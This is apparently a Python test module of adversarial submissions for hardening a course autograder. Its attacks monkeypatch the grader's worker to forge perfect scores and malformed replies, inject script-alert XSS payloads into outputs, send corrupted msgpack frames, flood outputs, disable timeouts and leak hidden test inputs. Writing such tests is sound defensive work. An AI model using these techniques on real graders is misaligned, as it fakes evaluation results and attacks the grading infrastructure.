"""Speak the engine's own language: whoever knows the grader's source can change its end inside the submission."""

from .base import Attack, code

FAMILY = "forged replies"

# The engine's end in the submission's own process: what it says can be changed, and so can how it says it.
INSIDER = """
import struct, sys
module = sys.modules.get("mlcourse.grading.inside.worker")
real = getattr(module, "send", None)

def change(rewrite):
    if module is not None:
        module.send = lambda channel, value, *more, **named: real(channel, rewrite(value), *more, **named)

def is_outcome(value):
    return isinstance(value, dict) and "timed_out" in value
"""


def speaking(name: str, tries: str, source: str) -> Attack:
    """Return an attack in the first cell that may use `change`, `module` and `real`."""
    return Attack(name, FAMILY, tries, {"fit_least_squares": code(INSIDER) + "\n\n" + code(source) + "\n"})


ATTACKS = [
    speaking(
        "replies_full_of_marks",
        "adds scores, statuses, groups and reports to every reply of the engine's own worker",
        """
        more = {"score": 6.0, "max_score": 6.0, "status": "passed", "right": True, "misconception": None,
                "groups": {"worked": True, "random": True, "edge": True}, "report": {"score": 6.0}, "points": 6.0}
        change(lambda value: {**value, **more} if isinstance(value, dict) else value)
        def fit_least_squares(X, y):
            return 0.0
        """,
    ),
    speaking(
        "replies_of_other_types",
        "answers with outcomes whose parts have the wrong types, a new one each time",
        """
        odd = [None, True, 5, "x", [1], (1, 2), {"a": 1}, float("nan"), [[[[[]]]]], {"value": {"value": 1}}, -1,
               2 ** 200]
        count = iter(range(10 ** 9))
        def rewrite(value):
            if not is_outcome(value):
                return value
            number = next(count)
            names = list(value)
            if number % 3 == 0:
                return {name: odd[(number + place) % len(odd)] for place, name in enumerate(names)}
            if number % 3 == 1:
                return odd[number % len(odd)]
            failure = {"kind": odd[number % len(odd)], "family": 5, "message": [1], "entered": None, "function": {},
                       "line": 7, "unwritten": "yes"}
            return {**value, "failure": failure, "changed": {"a": 1}, "printed": 5}
        change(rewrite)
        def fit_least_squares(X, y):
            return 0.0
        r2_score = mse_gradient = fit_least_squares
        """,
    ),
    speaking(
        "candidates_described_falsely",
        "describes its candidates falsely: handles that do not exist, names and shortcuts of other types",
        """
        odd = iter([-1, "x", None, [5], 2 ** 70, {"a": 1}] * 1000)
        def rewrite(value):
            if isinstance(value, dict) and "handle" in value:
                return {"handle": next(odd), "parts": {"name": next(odd), "callable": next(odd), "type": next(odd)},
                        "shortcut": next(odd), "called": next(odd), "missing": next(odd)}
            return value
        change(rewrite)
        def fit_least_squares(X, y):
            return 0.0
        """,
    ),
    speaking(
        "outputs_forged",
        "answers a cell with outputs that no cell can have: other kinds, other keys, marks for its check",
        """
        result = {"output_type": "execute_result", "data": {"text/plain": "6.0"}, "metadata": {}, "execution_count": 1}
        forged = [result, {"output_type": "evil"}, {"output_type": ["stream"], "name": 5, "text": None}, 5, None, [],
                  {"output_type": "stream", "name": "x\\"onmouseover=\\"alert(1)", "text": "6.0", "extra": "@MARK@"},
                  {"output_type": "display_data", "data": {"text/html": "<script>alert('@MARK@')</script>", "a": {}}},
                  {"output_type": "display_data", "data": {"application/javascript": "alert('@MARK@')"}},
                  {"output_type": "display_data", "data": 5, "metadata": {"text/html": {"isolated": True}}},
                  {"output_type": "error", "ename": "<script>alert('@MARK@')</script>", "evalue": 5, "traceback": "x"}]
        def rewrite(value):
            if isinstance(value, dict) and "outputs" in value:
                return {"outputs": forged, "stopped": "no", "count": "many", "metadata": {"nbgrader": {"points": 600}}}
            return value
        change(rewrite)
        """,
    ),
    speaking(
        "outputs_without_end",
        "answers a cell with 50,000 outputs, and names a count beyond every number",
        """
        many = [{"output_type": "stream", "name": "stdout", "text": "x"}] * 50_000
        change(lambda value: {**value, "outputs": many, "count": 2 ** 62} if isinstance(value, dict) else value)
        """,
    ),
    speaking(
        "frames_of_the_engine",
        "sends frames in the engine's own form: sizes that do not fit, arrays that point outside, halves, doubles",
        """
        import msgpack
        def raw(header, block=b"", sizes=None):
            data = msgpack.packb(header) if not isinstance(header, bytes) else header
            return struct.pack(">II", *(sizes or (len(data), len(block)))) + data + block
        value = {"value": 0.5, "failure": None, "refused": None, "timed_out": False, "changed": ["l", []],
                 "printed": ""}
        frames = [
            raw(value) * 40,
            raw({**value, "value": ["a", "numpy", "<f8", [10 ** 9, 10 ** 9], 0, 8]}, b"x" * 8),
            raw({**value, "value": ["a", "numpy", "|O", [1], 0, 8]}, b"x" * 8),
            raw({**value, "value": ["a", "torch", "<f8", [-1], 0, 8]}, b"x" * 8),
            raw({**value, "value": ["a", "numpy", "<f8,<f8", [1], 0, 16]}, b"x" * 16),
            raw({**value, "value": ["a", "numpy", "<f8", [0] * 64, 0, 0]}),
            raw({**value, "value": ["s", -5, 10 ** 12]}, b"x"),
            raw({**value, "value": ["i", "9" * 900_000]}),
            raw({**value, "value": ["i", "1_0"]}),
            raw(b"\\x91" * 3_000_000 + b"\\xc0"),
            raw(b"\\xdd\\xff\\xff\\xff\\xff" * 100),
            raw(b"\\x81\\xc0\\xc0"),
            raw(value, sizes=(2 ** 32 - 1, 2 ** 32 - 1)),
            raw(value, sizes=(4 * 2 ** 20, 64 * 2 ** 20)),
            struct.pack(">II", 100, 0) + b"half",
        ]
        count = iter(range(10 ** 9))
        def forge(channel, value, *more, **named):
            if is_outcome(value):
                channel.sendall(frames[next(count) % len(frames)])
            else:
                real(channel, value, *more, **named)
        if module is not None:
            module.send = forge
        def fit_least_squares(X, y):
            return 0.0
        mse_gradient = gradient_descent = fit_ridge = r2_score = reduce_loss = fit_least_squares
        """,
    ),
    speaking(
        "branches_denied",
        "answers the request for a copy with another process, twice, or with a reply to something else",
        """
        def rewrite(value):
            return {"branch": 1} if isinstance(value, dict) and "branch" in value else value
        change(rewrite)
        if module is not None:
            before = module.Worker.branch
            def branch(self, descriptor):
                import os
                if os.fork() == 0:
                    before(self, descriptor)
                    return
                real(self.channel, {"branch": -1})
                real(self.channel, {"value": 0.5, "timed_out": False})
            module.Worker.branch = branch
        """,
    ),
    speaking(
        "limits_of_the_worker",
        "removes the worker's own clock and its guard for outputs, then never ends and prints without end",
        """
        if module is not None:
            class Never:
                rang = False
                def __init__(self, *a, **k): pass
                def __enter__(self): return self
                def __exit__(self, *a): pass
            for name, other in list(sys.modules.items()):
                if name.startswith("mlcourse.grading") and hasattr(other, "Clock"):
                    other.Clock = Never
        import signal
        signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))
        def fit_least_squares(X, y):
            while module is not None:
                try:
                    print("x" * 1_000)
                except BaseException:
                    pass
            return 0.0
        """,
    ),
    Attack(
        "told_by_a_forged_reply",
        "hidden inputs",
        "writes the hidden inputs into every part of the worker's replies that the grader may show",
        {
            "r2_score": code(INSIDER)
            + "\n\n"
            + code("""
            kept = []
            def rewrite(value):
                if not is_outcome(value) or len(kept) < 3:
                    return value
                text = repr(kept[-1])
                failure = {"kind": text, "family": ["x", text], "message": text, "entered": text, "function": text,
                           "line": text, "unwritten": len(kept) % 2 == 0}
                return {"value": text, "failure": failure if len(kept) % 3 else None, "refused": text,
                        "timed_out": False, "changed": [text, "y"], "printed": text}
            change(rewrite)
            def r2_score(y, predictions):
                kept.append(y.tolist())
                if len(kept) < 3:
                    return float(1 - ((y - predictions) ** 2).sum() / ((y - y.mean()) ** 2).sum())
                raise ValueError(repr(y.tolist()))
            """)
        },
    ),
]
